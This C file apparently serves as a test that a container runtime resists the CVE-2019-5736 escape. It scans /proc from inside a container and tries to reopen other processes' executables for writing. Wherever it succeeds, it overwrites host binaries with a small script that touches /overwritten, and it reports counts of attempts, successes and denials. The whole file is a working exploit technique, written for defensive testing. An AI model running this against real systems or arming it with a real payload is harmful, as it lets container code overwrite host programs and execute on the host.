/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * CVE-2019-5736: from inside an instance, open the program of every process that is seen for writing, for SECONDS, and
 * write over it. Prints one line: how many opens for writing were tried, how many worked, and how often even
 * reading was denied. A file that was written to is named.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static unsigned long denied, tried, opened;

static void overwrite(const char *pid)
{
	static const char loot[] = "#!/bin/sh\ntouch /overwritten\n";
	char path[64], reopen[64];
	snprintf(path, sizeof(path), "/proc/%.20s/exe", pid);
	int held = open(path, O_RDONLY | O_CLOEXEC);
	if (held < 0) {
		denied += errno == EACCES || errno == EPERM;
		return;
	}
	snprintf(reopen, sizeof(reopen), "/proc/self/fd/%d", held);
	/* The instance's own programs are its own business: only what is not of its root file system is the host's. */
	char target[256] = "";
	struct stat here, there;
	bool ours = readlink(path, target, sizeof(target) - 1) > 0 && stat(target, &here) == 0 &&
		    fstat(held, &there) == 0 && here.st_dev == there.st_dev && here.st_ino == there.st_ino;
	if (!ours) {
		for (int i = 0; i < 50; i++) {
			tried++;
			int fd = open(reopen, O_WRONLY | O_CLOEXEC);
			if (fd < 0)
				continue;
			opened++;
			if (write(fd, loot, sizeof(loot) - 1) > 0)
				printf("wrote over %s\n", target);
			close(fd);
		}
	}
	close(held);
}

int main(int argc, char **argv)
{
	time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 2);
	char self[24];
	snprintf(self, sizeof(self), "%d", (int)getpid());
	while (time(NULL) <= end) {
		DIR *proc = opendir("/proc");
		struct dirent *e;
		while (proc && (e = readdir(proc)))
			if (e->d_name[0] >= '0' && e->d_name[0] <= '9' && strcmp(e->d_name, self) != 0)
				overwrite(e->d_name);
		if (proc)
			closedir(proc);
	}
	printf("tried %lu opened %lu denied %lu\n", tried, opened, denied);
	return 0;
}
